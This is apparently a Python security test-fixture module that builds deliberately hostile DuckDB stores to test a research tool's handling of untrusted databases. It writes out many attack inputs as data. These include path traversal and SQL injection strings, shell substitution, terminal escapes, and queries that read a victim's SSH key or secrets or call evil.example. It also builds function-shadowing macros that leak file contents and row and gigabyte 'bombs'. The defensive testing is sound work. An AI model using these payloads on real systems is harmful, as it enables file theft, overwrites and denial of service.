"""Stores as a stranger could send them: hostile texts and numbers in every column, views and macros in place of tables.

`Base` holds an honest store; each function changes a copy of it in one way. Which columns there are is asked of the schema.
"""

import hashlib
import json
import os
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import duckdb

from rnc.lab import saved_results
from rnc.lab.attack import AttackRequest
from rnc.lab.network_and_images import Source
from rnc.store.writer import StoreWriter
from rnc.vocabulary import Split
from tests.rnc.lab import samples
from tests.security.guard import World

HONEST = "honest"
"""The run that is left as it is in every store."""
RUN = "digits-small_cnn-st-linf-s2-hostile0"
"""The run whose fields are hostile where its id is not."""
TEXTS = {
    "separators": "a/b\\c",
    "parent": "../../victim/precious",
    "parents": "../../../victim/app",
    "absolute": "{victim}/precious",
    "nul": "x\0{victim}/secret.txt",
    "quotes": "x'y\"z`",
    "statement": "x\" t; COPY (SELECT 'made') TO '{victim}/made.py' (FORMAT csv, HEADER false, QUOTE ''); SELECT 1; --",
    "query": "x') UNION ALL SELECT content FROM read_text('{victim}/secret.txt') --",
    "look-alike": "．．／．．／victim／precious",
    "long": "x" * 10_000,
    "pipe": "pipe",
    "link": "way-out/secret.txt",
    "link to a folder": "way-out",
    "device": "{victim}/zero",
    "descriptor": "/proc/self/fd/0",
    "address": "https://evil.example/x.png",
    "terminal": "\x1b]0;owned\x07\x1b[2J\r\nroot# \u202e",
    "markup": "![x](https://evil.example/x.png) <img src=https://evil.example/y.png> [y](https://evil.example) | x |\n# x",
    "empty": "",
    "dots": "..",
    "option": "--store={victim}/made.duckdb",
    "shell": "$(touch {victim}/made); `touch {victim}/made` %s {{0}}",
}
"""The value of every text column of a store; `{victim}` is the victim's folder."""
WHOLE: list[Any] = [-(2**31), -1, 0, 2**31 - 1, None, 10_000_000]
REAL: list[Any] = [float("nan"), float("inf"), float("-inf"), 1e308, -1.0, None, 5e-324, 0.0]
TIMES: list[Any] = ["infinity", "-infinity", "0001-01-01", "294246-01-01", None, "1677-01-01"]
VECTORS = [
    "NULL",
    "[]",
    "[NULL]",
    "[1.0]",
    "['nan'::FLOAT]",
    "list_resize([3e38::FLOAT], 65, 3e38)",
    "range(100000)::FLOAT[]",
]
LISTS = ["NULL", "[]", "[NULL]", "['x']", "['x', 'x']", "range(100000)::VARCHAR[]"]
IN_JSON: list[Any] = [-1, 0, 2**31 - 1, 10**30, 1e308, float("nan"), float("inf"), True, "1", None, [], {}, 10**4000]
_NUMBERS = {"INTEGER": WHOLE, "BIGINT": WHOLE, "DOUBLE": REAL, "FLOAT": REAL, "TIMESTAMP": TIMES}
_LARGE = ("feature", "attack_path", "projection", "class_mean", "classifier")
_LISTS = {"FLOAT[]": VECTORS, "VARCHAR[]": LISTS}


@dataclass(frozen=True)
class Column:
    """A column of the schema."""

    table: str
    name: str
    type: str


@dataclass(frozen=True)
class Base:
    """An honest store with checkpoints and a kept result, and the columns of its tables."""

    store: Path
    columns: list[Column]

    @property
    def tables(self) -> list[str]:
        """Its tables' names."""
        return sorted({column.table for column in self.columns})

    def copy(self, world: World) -> None:
        """Put it into a world as what the stranger sent, with a pipe and links that lead out beside it."""
        shutil.copytree(self.store.parent, world.given, dirs_exist_ok=True, symlinks=True)
        (world.given / self.store.name).rename(world.store)
        os.mkfifo(world.given / "pipe")
        (world.given / "way-out").symlink_to(world.victim)

    def beside(self, world: World) -> str:
        """Another copy, as an honest store of the victim's."""
        return str(shutil.copytree(self.store.parent, world.scratch / "honest") / self.store.name)


def make_base(tiny_store: Path, folder: Path) -> Base:
    """A small copy of a tiny store: the run RUN, its twin HONEST and one kept result."""
    shutil.copytree(tiny_store.parent, folder, ignore=shutil.ignore_patterns("*.log", "locks"))
    store = folder / tiny_store.name
    columns = _columns(folder)
    with duckdb.connect(str(store)) as connection:
        (run_id,) = connection.execute("SELECT run_id FROM run").fetchone() or ("",)
        for table in ("feature", "attack_path", "projection"):
            connection.execute(f"DELETE FROM {table} WHERE sample % 5 > 0")
        keys = [column.table for column in columns if column.name == "run_id"]
        for table in keys:
            connection.execute(f"UPDATE {table} SET run_id = ?", [RUN])
            connection.execute(f"INSERT INTO {table} SELECT * REPLACE (? AS run_id) FROM {table}", [HONEST])
        for name in (RUN, HONEST):
            connection.execute("UPDATE checkpoint SET path = replace(path, ?, run_id) WHERE run_id = ?", [run_id, name])
            connection.execute("INSERT INTO run_mark VALUES (?, ['a tag'], 'a note', NULL)", [name])
            shutil.copytree(folder / "checkpoints" / run_id, folder / "checkpoints" / name)
    shutil.rmtree(folder / "checkpoints" / run_id)
    request = AttackRequest(Source("checkpoints/x", "ab" * 32, RUN, 1, "digits", Split.TEST), samples.PGD, images=20)
    saved_results.save(StoreWriter(store), request, samples.attack_result(), "a kept result")
    compact = folder / "compact.duckdb"
    with duckdb.connect() as connection:
        connection.execute(f"ATTACH '{store}' AS old; ATTACH '{compact}' AS new; COPY FROM DATABASE old TO new")
    compact.replace(store)
    shutil.rmtree(folder / "locks", ignore_errors=True)
    return Base(store, columns)


def _columns(folder: Path) -> list[Column]:
    """All columns of all tables of the schema, as an empty store has them."""
    empty = folder / "empty" / "rnc.duckdb"
    StoreWriter(empty).prepare()
    sql = """SELECT table_name, column_name, data_type FROM information_schema.columns
             JOIN information_schema.tables USING (table_catalog, table_schema, table_name)
             WHERE table_type = 'BASE TABLE' ORDER BY table_name, ordinal_position"""
    with duckdb.connect(str(empty)) as connection:
        found = [Column(*row) for row in connection.execute(sql).fetchall()]
    shutil.rmtree(empty.parent)
    return found


FULL = os.environ.get("RNC_HOSTILE") == "full"
"""True if each hostile value is tried in a store of its own (half an hour), and not together with others (minutes)."""
TOGETHER = [[name] for name in TEXTS] if FULL else [list(TEXTS)]


def text(name: str, world: World) -> str:
    """A hostile text that speaks of this world's files."""
    return TEXTS[name].replace("{victim}", str(world.victim))


def ids(base: Base, world: World, values: list[str]) -> None:
    """Runs whose ids are the texts, wherever these stand."""
    base.copy(world)
    with duckdb.connect(str(world.store)) as connection:
        for value in values:
            _add_run(base, connection, value)


def _add_run(base: Base, connection: duckdb.DuckDBPyConnection, run_id: str) -> None:
    """A copy of RUN under another id; of large tables some of the rows."""
    for column in base.columns:
        if column.name == "run_id":
            some = " AND rowid % 4 = 0" if column.table in _LARGE else ""
            connection.execute(
                f"INSERT INTO {column.table} SELECT * REPLACE (? AS run_id) FROM {column.table} WHERE run_id = ?{some}",
                [run_id, RUN],
            )


def texts(base: Base, world: World, values: list[str]) -> list[str]:
    """Each text stands in every other text column of a run: in all rows of small tables, in some rows of large ones.

    Returns the ids of these runs.
    """
    base.copy(world)
    runs = [f"{RUN}{number}" for number in range(len(values))]
    with duckdb.connect(str(world.store)) as connection:
        for run_id, value in zip(runs, values, strict=True):
            _add_run(base, connection, run_id)
            _texts_of_one(base, connection, run_id, value)
        (request,) = connection.execute("SELECT request FROM lab_result").fetchone() or ("{}",)
        for number, value in enumerate(values):
            known = json.loads(request)
            known["source"] |= {"checkpoint": value or "x", "run_id": value or "x", "model": value}
            connection.execute(
                "INSERT INTO lab_result SELECT * REPLACE (? AS key, ? AS title, ? AS request, ? AS summary) FROM lab_result "
                "WHERE title = 'a kept result'",
                [f"{number:02}{value}", value, json.dumps(known), json.dumps({"kind": value, "seconds": value})],
            )
    return runs


def _texts_of_one(base: Base, connection: duckdb.DuckDBPyConnection, run_id: str, value: str) -> None:
    given = {"x": value, "run": run_id}
    connection.execute("INSERT INTO condition SELECT * REPLACE ($x AS condition, $x AS norm) FROM condition WHERE "
                       "condition <> 'clean' LIMIT 1", {"x": value})  # fmt: skip
    connection.execute("INSERT INTO run_condition VALUES ($run, $x, 'extra')", given)
    connection.execute("INSERT INTO metric SELECT * REPLACE ($x AS condition, $x AS means_condition) FROM metric WHERE "
                       "run_id = $run AND condition = means_condition AND condition = 'clean'", given)  # fmt: skip
    for table in ("layer", "metric"):
        connection.execute(f"UPDATE {table} SET layer = $x WHERE run_id = $run AND layer = 'stage2'", given)
    for column in _of_type(base, "VARCHAR"):
        if column.table not in ("lab_result", "condition") and column.name not in ("run_id", "state"):
            where = _some_rows(base, column, run_id)
            connection.execute(f"UPDATE {column.table} SET {column.name} = ? WHERE {where}", [value])
    connection.execute("UPDATE run_mark SET tags = [$x, 'x' || $x] WHERE run_id = $run", given)
    connection.execute(
        "UPDATE run SET classes = list_transform(classes, (c, i) -> concat($x, i)) WHERE run_id = $run", given
    )
    (config,) = connection.execute("SELECT config FROM run WHERE run_id = ?", [run_id]).fetchone() or ("{}",)
    told = json.loads(config) | {"model": value, "norm": value, "objective": value, f"x{value}": value}
    contents = {
        "config": told, "data": {"train": {"images": 5, "fingerprint": value}, value: value}, "versions": {value: value},
    }  # fmt: skip
    for name, content in contents.items():
        connection.execute(f"UPDATE run SET {name} = ? WHERE run_id = ?", [json.dumps(content), run_id])


def paths(base: Base, world: World, values: list[str]) -> list[str]:
    """Each text is the path of a run's networks, with the right hash where the stranger has such a file; the runs' ids."""
    base.copy(world)
    runs = [f"{RUN}{number}" for number in range(len(values))]
    with duckdb.connect(str(world.store)) as connection:
        for run_id, value in zip(runs, values, strict=True):
            _add_run(base, connection, run_id)
            for epoch, way in enumerate((f"checkpoints/{RUN}/{value}", f"checkpoints/../{value}", value)):
                connection.execute(
                    "UPDATE checkpoint SET path = ?, sha256 = ? WHERE run_id = ? AND epoch = ?",
                    [way, _right_hash(world, way), run_id, epoch],
                )
    return runs


def _right_hash(world: World, way: str) -> str:
    """Of a file that the stranger has; a stranger does not know what the victim's files hold."""
    file = world.given / way if "\0" not in way and len(way) < 200 else world.given
    if file.is_file() and file.resolve().is_relative_to(world.given.parent):
        return hashlib.sha256(file.read_bytes()).hexdigest()
    return "ab" * 32


def overwriting(base: Base, world: World) -> None:
    """Networks that lie beside the stranger's folder, with the right hash, named as files of the victim are."""
    base.copy(world)
    with duckdb.connect(str(world.store)) as connection:
        for epoch, way in enumerate(("../app.py", "../uv.lock", "../../stranger/app.py")):
            digest = hashlib.sha256((world.given / way).read_bytes()).hexdigest()
            connection.execute(
                "UPDATE checkpoint SET path = ?, sha256 = ? WHERE run_id = ? AND epoch = ?", [way, digest, RUN, epoch]
            )


def own_images(base: Base, world: World, place: str) -> None:
    """A network of one's own, by its config, whose images lie anywhere on the machine."""
    base.copy(world)
    images = {
        "data": place,
        "test_data": place,
        "name": "x",
        "classes": [str(n) for n in range(10)],
        "image_shape": [1, 8, 8],
    }
    with duckdb.connect(str(world.store)) as connection:
        (config,) = connection.execute("SELECT config FROM run WHERE run_id = ?", [RUN]).fetchone() or ("{}",)
        own = {"name": "x", "typed": {"model": "os.system", "checkpoint": place, "data": place}, "images": images}
        told = json.loads(config) | {"objective": "own", "own": own}
        connection.execute("UPDATE run SET config = ? WHERE run_id = ?", [json.dumps(told), RUN])


def shadowing(base: Base, world: World) -> None:
    """Fields of a config that are called as columns of the table of runs are."""
    base.copy(world)
    with duckdb.connect(str(world.store)) as connection:
        (config,) = connection.execute("SELECT config FROM run WHERE run_id = ?", [RUN]).fetchone() or ("{}",)
        images = json.dumps({"data": str(world.victim / "pipe"), "test_data": None, "name": "x", "classes": ["a", "b"],
                             "image_shape": [1, 8, 8]})  # fmt: skip
        told = json.loads(config) | {
            "run_id": "../../victim/precious", "published": False, "images_from": f"own:{images}", "state": "finished",
            "config": "[", "classes": 5, "tags": 5, "note": 5, "label": 5, "device": 5, "data": "{", "epochs_done": "x",
            "versions": "[", "archived": False, "heartbeat_at": "never", "started_at": [], "wall_seconds": "long", "error": [],
        }  # fmt: skip
        connection.execute("UPDATE run SET config = ? WHERE run_id = ?", [json.dumps(told), RUN])


def numbers(base: Base, world: World, turn: int) -> None:
    """A hostile number in every column of numbers, times, vectors or lists, another one each turn; and in the config."""
    base.copy(world)
    with duckdb.connect(str(world.store)) as connection:
        for place, column in enumerate(base.columns):
            where = _some_rows(base, column)
            if column.type in _NUMBERS:
                values = _NUMBERS[column.type]
                value = values[(place + turn) % len(values)]
                connection.execute(
                    f"UPDATE {column.table} SET {column.name} = CAST(? AS {column.type}) WHERE {where}", [value]
                )
            elif column.type in _LISTS:
                expressions = _LISTS[column.type]
                expression = expressions[(place + turn) % len(expressions)]
                connection.execute(f"UPDATE {column.table} SET {column.name} = {expression} WHERE {where}")


def numbers_in_json(base: Base, world: World, value: Any) -> None:
    """A hostile number in each field of a config that is a number, each in a run of its own."""
    base.copy(world)
    with duckdb.connect(str(world.store)) as connection:
        (text_,) = connection.execute("SELECT config FROM run WHERE run_id = ?", [RUN]).fetchone() or ("{}",)
        config = json.loads(text_)
        fields = [name for name, known in config.items() if isinstance(known, int | float | list)]
        for name in fields:
            told = _dumped(config | {name: value})
            connection.execute(
                "INSERT INTO run SELECT * REPLACE (? AS run_id, ? AS config) FROM run WHERE run_id = ?",
                [f"{RUN}-{name}", told, RUN],
            )
            connection.execute("INSERT INTO metric SELECT * REPLACE (? AS run_id) FROM metric WHERE run_id = ?", [
                f"{RUN}-{name}", RUN,
            ])  # fmt: skip


def _dumped(config: dict[str, Any]) -> str:
    import sys

    most = sys.get_int_max_str_digits()
    sys.set_int_max_str_digits(0)
    try:
        return json.dumps(config)
    finally:
        sys.set_int_max_str_digits(most)


def doubled(base: Base, world: World) -> None:
    """Every row twice: the SQL guards no key."""
    base.copy(world)
    with duckdb.connect(str(world.store)) as connection:
        for table in base.tables:
            connection.execute(f"INSERT INTO {table} SELECT * FROM {table}")


def _of_type(base: Base, *types: str) -> Iterator[Column]:
    return (column for column in base.columns if column.type in types)


def _some_rows(base: Base, column: Column, run_id: str = RUN) -> str:
    of_run = any(other.table == column.table and other.name == "run_id" for other in base.columns)
    small = column.table in ("run", "run_mark", "checkpoint", "lab_result", "schema_version")
    parts = [f"run_id = '{run_id}'"] if of_run else []
    parts += [] if small else [f"hash(rowid, '{column.name}') % 5 = 0"]
    return " AND ".join(parts) if column.table != "schema_version" and parts else "true" if parts or small else "false"


# Views, macros and other things that a database may hold besides tables.

_READS = (
    "(SELECT content FROM read_text('{victim}/secret.txt'))",
    "(SELECT string_agg(file, ',') FROM glob('{victim}/*'))",
    "(SELECT any_value(x)::VARCHAR FROM read_csv('{victim}/secret.txt', header = false) AS t(x))",
    "(SELECT decode(content) FROM read_blob('{root}/home/.ssh/id_ed25519'))",
    "(SELECT any_value(t)::VARCHAR FROM read_parquet('https://evil.example/x.parquet') t)",
    "(SELECT content FROM read_text('{victim}/pipe'))",
    "(SELECT any_value(t)::VARCHAR FROM '{victim}/secret.txt' t)",
    "(SELECT string_agg(value, ',') FROM duckdb_settings())",
    "(SELECT count(*)::VARCHAR FROM range(10000000000000) a)",
    "(SELECT any_value(t)::VARCHAR FROM sqlite_scan('{victim}/secret.txt', 'x') t)",
)


def reads(number: int, world: World) -> str:
    """An SQL expression, a text, that reads the victim's machine, calls another, or takes for ever."""
    return _READS[number % len(_READS)].replace("{victim}", str(world.victim)).replace("{root}", str(world.root))


def viewed(base: Base, world: World, table: str, number: int) -> None:
    """A view in place of a table, each of its text columns being what the machine holds."""
    base.copy(world)
    expression = reads(number, world)
    changed = ", ".join(f"{expression} AS {c.name}" for c in base.columns if c.table == table and c.type == "VARCHAR"
                        and c.name not in ("run_id", "condition", "split", "layer"))  # fmt: skip
    replaced = f"* REPLACE ({changed})" if changed else "*"
    with duckdb.connect(str(world.store)) as connection:
        connection.execute(f"ALTER TABLE {table} RENAME TO other_{table}")
        _made(connection, f"CREATE VIEW {table} AS SELECT {replaced} FROM other_{table}", f"other_{table}")


def _made(connection: duckdb.DuckDBPyConnection, sql: str, known: str) -> None:
    """Make a view; what cannot be bound here (another machine's file) is bound when it is asked, by way of a macro."""
    try:
        connection.execute(sql)
    except duckdb.Error:
        name = sql.split()[2]
        connection.execute(
            f"CREATE VIEW {name} AS SELECT * FROM {known} WHERE 1 = (SELECT 1 FROM range(10000000000000))"
        )


def generated(base: Base, world: World, table: str) -> None:
    """A table with a column that is computed when it is read: a gigabyte of text in each row, of nothing."""
    base.copy(world)
    columns = [column for column in base.columns if column.table == table]
    computed = next((c for c in columns if c.type == "VARCHAR" and c.name not in ("run_id", "condition")), None)
    parts, kept = [], []
    for column in columns:
        if column == computed or (computed is None and column == columns[-1] and len(columns) > 1):
            expression = "repeat('x', 1000000000)" if column.type == "VARCHAR" else "NULL"
            parts.append(f'"{column.name}" {column.type} GENERATED ALWAYS AS (CAST({expression} AS {column.type}))')
        else:
            parts.append(f'"{column.name}" {column.type}')
            kept.append(f'"{column.name}"')
    with duckdb.connect(str(world.store)) as connection:
        connection.execute("DROP VIEW IF EXISTS measurement")
        connection.execute(f"ALTER TABLE {table} RENAME TO other_{table}")
        connection.execute(f"CREATE TABLE {table} ({', '.join(parts)})")
        connection.execute(f"INSERT INTO {table} ({', '.join(kept)}) SELECT {', '.join(kept)} FROM other_{table}")
        connection.execute(f"DROP TABLE other_{table}")


_MACROS = (
    "list_contains(a, b) AS (SELECT content FROM read_text('{victim}/secret.txt')) IS NOT NULL",
    "coalesce(a, b) AS (SELECT content FROM read_text('{victim}/secret.txt'))",
    "max(a) AS 4", "min(a) AS 4", "count(a) AS 10000000000", "avg(a) AS 1", "sum(a) AS 1", "hash(a) AS 1",
    "parse_filename(a) AS '../../victim/app.py'", "octet_length(a) AS 1", "starts_with(a, b) AS true", "greatest(a, b) AS 1",
    "any_value(a) AS (SELECT content FROM read_text('{victim}/secret.txt'))", "current_database() AS 'x'",
    "lag(a) AS 1", "row_number() AS 1", "unnest(a) AS 1", "decode(a) AS '4'",
    "duckdb_tables() AS TABLE SELECT 'run' AS table_name, false AS temporary",
    "duckdb_views() AS TABLE SELECT 'x' AS view_name WHERE false",
    "duckdb_functions() AS TABLE SELECT 'x' AS function_name WHERE false",
    "duckdb_columns() AS TABLE SELECT 'x' AS column_name WHERE false",
    "read_parquet(a, union_by_name := true) AS TABLE SELECT content AS run_id FROM read_text('{victim}/secret.txt')",
    "parquet_kv_metadata(a) AS TABLE SELECT 'x' AS file_name, 'y'::BLOB AS key, '4'::BLOB AS value",
)  # fmt: skip


def macros(base: Base, world: World, *, which: Callable[[str], bool] = lambda _name: True) -> None:
    """Macros called as the functions are that the program's queries use, and as those that list what a database holds."""
    base.copy(world)
    with duckdb.connect(str(world.store)) as connection:
        for macro in reversed(_MACROS):  # (those with which tables are listed last)
            if which(macro):
                connection.execute(f"CREATE MACRO {macro.replace('{victim}', str(world.victim))}")


def objects(base: Base, world: World) -> None:
    """Tables, columns, views, schemas, sequences, types and indexes with every hostile text as a name; checks and defaults."""
    base.copy(world)
    with duckdb.connect(str(world.store)) as connection:
        for number, key in enumerate(TEXTS):
            raw = text(key, world).replace("\0", "")
            if not raw:
                continue
            name = '"' + raw.replace('"', '""') + '"'
            column = f'"{number}' + raw.replace('"', '""') + '"'
            connection.execute(f"CREATE TABLE {name} (run_id VARCHAR, {column} INTEGER)")
            connection.execute(f"INSERT INTO {name} VALUES ('{RUN}', 1)")
            connection.execute(f"CREATE TABLE x{number} (x VARCHAR DEFAULT current_setting('temp_directory'))")
            connection.execute(f"CREATE SCHEMA {column}")
            connection.execute(f"CREATE TABLE {column}.run AS SELECT * FROM run")
            connection.execute(f"CREATE SEQUENCE {column}")
            connection.execute(f"CREATE TYPE {column} AS ENUM ({_quoted(raw)})")
            connection.execute(f"CREATE INDEX {column} ON x{number} (x)")
            connection.execute(f"COMMENT ON TABLE {name} IS {_quoted(raw)}")
        connection.execute('CREATE TABLE "x" (run_id VARCHAR)')


def _quoted(raw: str) -> str:
    return "'" + raw.replace("'", "''") + "'"


def types(base: Base, world: World, turn: int) -> None:
    """Columns of other types than the schema's: texts where numbers are expected and the other way, structs, bits."""
    base.copy(world)
    kinds = ("VARCHAR", "BLOB", "HUGEINT", "STRUCT(a INTEGER)", "MAP(VARCHAR, INTEGER)", "VARCHAR[]", "BIT", "UUID")
    with duckdb.connect(str(world.store)) as connection:
        connection.execute("DROP VIEW IF EXISTS measurement")
        for place, column in enumerate(base.columns):
            if column.name == "run_id" or column.table == "schema_version" or (place + turn) % 4:
                continue
            kind = kinds[(place + turn) // 4 % len(kinds)]
            connection.execute(
                f'ALTER TABLE {column.table} ALTER "{column.name}" TYPE {kind} USING CAST(NULL AS {kind})'
            )


# Bombs: small files that are large when they are read.


def many_runs(base: Base, world: World, count: int = 2_000_000) -> None:
    """A run so many times over."""
    base.copy(world)
    with duckdb.connect(str(world.store)) as connection:
        connection.execute(f"INSERT INTO run SELECT run.* FROM run, range({count}) WHERE run_id = '{RUN}'")


def joins(base: Base, world: World, count: int = 30_000) -> None:
    """A condition, and its part for a run, so many times over: their join has the square of it."""
    base.copy(world)
    with duckdb.connect(str(world.store)) as connection:
        for table in ("condition", "run_condition"):
            connection.execute(
                f"INSERT INTO {table} SELECT t.* FROM {table} t, range({count}) WHERE condition = 'clean'"
            )


def many_marks(base: Base, world: World, count: int = 2_000_000) -> None:
    """Kept results, epochs and marks so many times over."""
    base.copy(world)
    with duckdb.connect(str(world.store)) as connection:
        connection.execute(f"INSERT INTO run_mark SELECT m.* FROM run_mark m, range({count}) WHERE run_id = '{RUN}'")
        connection.execute(
            "INSERT INTO lab_result SELECT r.* REPLACE (''::BLOB AS content, '{}' AS request) "
            f"FROM lab_result r, range({count})"
        )


def many_epochs(base: Base, world: World, count: int = 4_000_000) -> None:
    """One number at so many epochs, and the largest epoch there is."""
    base.copy(world)
    with duckdb.connect(str(world.store)) as connection:
        rows = "(SELECT * FROM metric WHERE split = 'train' AND metric = 'accuracy' LIMIT 1)"
        connection.execute(
            f"INSERT INTO metric SELECT t.* REPLACE (r::INTEGER AS epoch) FROM {rows} t, range({count}) g(r)"
        )
        connection.execute(f"INSERT INTO metric SELECT t.* REPLACE (2147483647 AS epoch) FROM {rows} t")


BOMBS = {"runs": many_runs, "joins": joins, "marks": many_marks, "epochs": many_epochs}
